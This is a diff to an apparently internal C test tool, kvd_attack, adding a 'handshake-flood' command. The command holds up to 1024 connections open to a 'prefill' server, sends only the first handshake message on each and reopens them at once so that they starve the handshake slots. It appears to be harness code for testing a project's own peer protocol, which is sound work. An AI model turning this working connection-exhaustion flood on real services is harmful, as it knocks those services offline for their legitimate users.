@@ -26,6 +26,15 @@
  *       expects from decode (prefill_reject), one after another; each is
  *       a line in prefill's log unless its log lines are rate limited.
  *       Reports how many went out and whether prefill kept the link.
+ *   kvd_attack handshake-flood HOST:PORT SECONDS CONNS SOURCES
+ *       a stranger (no key needed): keeps CONNS connections open for
+ *       SECONDS, each sending auth_hello and never its proof, from the
+ *       local addresses SOURCES (comma-separated IPv4, bound round-robin;
+ *       "-": the system's choice). A connection prefill closes is opened
+ *       again at once (after 10 ms when it was closed within 50 ms:
+ *       refused at accept), so every handshake slot prefill frees goes to
+ *       the flood first. Reports connections opened, closed at once and
+ *       closed after being held (at the end, or at SIGTERM).
  *
  * Output: one line of key=value pairs on stdout; exit 0 unless the
  * handshake itself failed (exit 2) or the usage was wrong (exit 64).
@@ -72,6 +81,8 @@ struct attack_conn {
 	struct peer_session ss;        /* keyed links */
 	bool sealed;
 };
+
+static int usage(void);
 
 /* --log, --key and --source; hold's --no-read-data */
 static const char *g_log;
@@ -623,13 +634,181 @@ static int cmd_hold(const char *hostport, uint32_t tokens, unsigned count,
 	return 0;
 }
 
+/* ---- handshake-flood ------------------------------------------------------------ */
+
+#define FLOOD_MAX 1024
+#define FLOOD_SOURCES 64
+
+struct flood_slot {
+	int fd;                        /* -1: waiting to reopen */
+	bool sent;                     /* auth_hello written */
+	uint64_t t_open, t_reopen;     /* ms */
+};
+
+struct flood {
+	struct sockaddr_in dst;
+	struct in_addr src[FLOOD_SOURCES];
+	unsigned n_src, next_src;
+	unsigned long long opened, closed_at_once, closed_held, challenges;
+	char hello[256];               /* the auth_hello frame */
+	size_t hello_len;
+};
+
+/* "a.b.c.d:port" and "a,b,c" (or "-"). 0 or -1. */
+static int flood_parse(struct flood *f, const char *hostport, const char *sources)
+{
+	char host[64], list[1024], *tok, *save = NULL;
+	const char *colon = strrchr(hostport, ':');
+
+	if (!colon || (size_t)(colon - hostport) >= sizeof(host))
+		return -1;
+	memcpy(host, hostport, (size_t)(colon - hostport));
+	host[colon - hostport] = '\0';
+	f->dst.sin_family = AF_INET;
+	f->dst.sin_port = htons((uint16_t)atoi(colon + 1));
+	if (inet_pton(AF_INET, host, &f->dst.sin_addr) != 1)
+		return -1;
+	if (!strcmp(sources, "-"))
+		return 0;
+	snprintf(list, sizeof(list), "%s", sources);
+	for (tok = strtok_r(list, ",", &save); tok; tok = strtok_r(NULL, ",", &save)) {
+		if (f->n_src == FLOOD_SOURCES || inet_pton(AF_INET, tok, &f->src[f->n_src]) != 1)
+			return -1;
+		f->n_src++;
+	}
+	return 0;
+}
+
+/* A non-blocking connect from the next source address. */
+static void flood_open(struct flood *f, struct flood_slot *sl)
+{
+	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+
+	sl->sent = false;
+	sl->t_open = now_ms();
+	if (fd < 0) {
+		sl->t_reopen = sl->t_open + 10;
+		return;
+	}
+	if (f->n_src) {
+		struct sockaddr_in a = { .sin_family = AF_INET,
+					 .sin_addr = f->src[f->next_src++ % f->n_src] };
+
+		if (bind(fd, (struct sockaddr *)&a, sizeof(a))) {
+			close(fd);
+			sl->t_reopen = sl->t_open + 10;
+			return;
+		}
+	}
+	if (connect(fd, (struct sockaddr *)&f->dst, sizeof(f->dst)) && errno != EINPROGRESS) {
+		close(fd);
+		sl->t_reopen = sl->t_open + 10;
+		return;
+	}
+	sl->fd = fd;
+	f->opened++;
+}
+
+/* prefill closed sl (or the connect failed): count it, reopen soon. */
+static void flood_closed(struct flood *f, struct flood_slot *sl)
+{
+	uint64_t t = now_ms();
+	bool at_once = t - sl->t_open < 50;
+
+	close(sl->fd);
+	sl->fd = -1;
+	if (at_once)
+		f->closed_at_once++;
+	else
+		f->closed_held++;
+	sl->t_reopen = at_once ? t + 10 : t;
+}
+
+/* One poll event of an open slot. */
+static void flood_event(struct flood *f, struct flood_slot *sl, short rev)
+{
+	char buf[4096];
+
+	if (!sl->sent && (rev & POLLOUT) && !(rev & (POLLERR | POLLHUP))) {
+		if (send(sl->fd, f->hello, f->hello_len, MSG_NOSIGNAL) != (ssize_t)f->hello_len) {
+			flood_closed(f, sl);
+			return;
+		}
+		sl->sent = true;
+	}
+	if (rev & (POLLIN | POLLERR | POLLHUP)) {
+		ssize_t n = recv(sl->fd, buf, sizeof(buf), MSG_DONTWAIT);
+
+		if (n > 0)
+			f->challenges++;   /* the challenge: never answered */
+		else if (n == 0 || (errno != EAGAIN && errno != EINTR))
+			flood_closed(f, sl);
+	}
+}
+
+static volatile sig_atomic_t g_flood_stop;
+
+static void flood_on_term(int sig)
+{
+	(void)sig;
+	g_flood_stop = 1;
+}
+
+static int cmd_handshake_flood(const char *hostport, int seconds, unsigned conns,
+			       const char *sources)
+{
+	static struct flood_slot sl[FLOOD_MAX];
+	static struct pollfd p[FLOOD_MAX];
+	static struct flood f;
+	struct proto_peer_msg m = { .type = PEER_MSG_AUTH_HELLO, .version = PROTO_PEER_VERSION };
+	uint64_t end = now_ms() + (uint64_t)seconds * 1000u;
+	char *data;
+	size_t len;
+
+	if (conns == 0 || conns > FLOOD_MAX || flood_parse(&f, hostport, sources))
+		return usage();
+	peer_auth_random(m.nonce);
+	if (proto_peer_frame(&m, &data, &len) || len > sizeof(f.hello))
+		return 2;
+	memcpy(f.hello, data, len);
+	f.hello_len = len;
+	free(data);
+	for (unsigned i = 0; i < conns; i++) {
+		sl[i].fd = -1;
+		sl[i].t_reopen = 0;
+	}
+	signal(SIGTERM, flood_on_term);   /* SIGTERM ends it early, reporting */
+	while (now_ms() < end && !g_flood_stop) {
+		uint64_t t = now_ms();
+
+		for (unsigned i = 0; i < conns; i++) {
+			if (sl[i].fd < 0 && t >= sl[i].t_reopen)
+				flood_open(&f, &sl[i]);
+			p[i] = (struct pollfd){ .fd = sl[i].fd,
+						.events = POLLIN | (sl[i].sent ? 0 : POLLOUT) };
+		}
+		if (poll(p, conns, 5) <= 0)
+			continue;
+		for (unsigned i = 0; i < conns; i++)
+			if (sl[i].fd >= 0 && p[i].revents)
+				flood_event(&f, &sl[i], p[i].revents);
+	}
+	printf("opened=%llu closed_at_once=%llu closed_held=%llu challenges=%llu\n",
+	       f.opened, f.closed_at_once, f.closed_held, f.challenges);
+	for (unsigned i = 0; i < conns; i++)
+		if (sl[i].fd >= 0)
+			close(sl[i].fd);
+	return 0;
+}
+
 static int usage(void)
 {
 	fprintf(stderr,
 		"usage: kvd_attack --log PREFILL_LOG [--key FILE] abort-flood HOST:PORT SECONDS\n"
 		"       kvd_attack --log PREFILL_LOG [--key FILE] [--source IP] hold HOST:PORT TOKENS COUNT SECONDS\n"
 		"                  [--keep-sending] [--no-read-data] [--links N]\n"
-		"       kvd_attack --log PREFILL_LOG [--key FILE] junk-flood HOST:PORT COUNT\n");
+		"       kvd_attack --log PREFILL_LOG [--key FILE] junk-flood HOST:PORT COUNT\n"
+		"       kvd_attack handshake-flood HOST:PORT SECONDS CONNS SOURCES\n");
 	return 64;
 }
 
@@ -687,6 +866,9 @@ int main(int argc, char **argv)
 		return cmd_abort_flood(argv[2], atoi(argv[3]));
 	if (argc == 4 && !strcmp(argv[1], "junk-flood"))
 		return cmd_junk_flood(argv[2], (unsigned)strtoul(argv[3], NULL, 10));
+	if (argc == 6 && !strcmp(argv[1], "handshake-flood"))
+		return cmd_handshake_flood(argv[2], atoi(argv[3]),
+					   (unsigned)strtoul(argv[4], NULL, 10), argv[5]);
 	if (argc >= 6 && !strcmp(argv[1], "hold"))
 		return hold_main(argc, argv);
 	return usage();
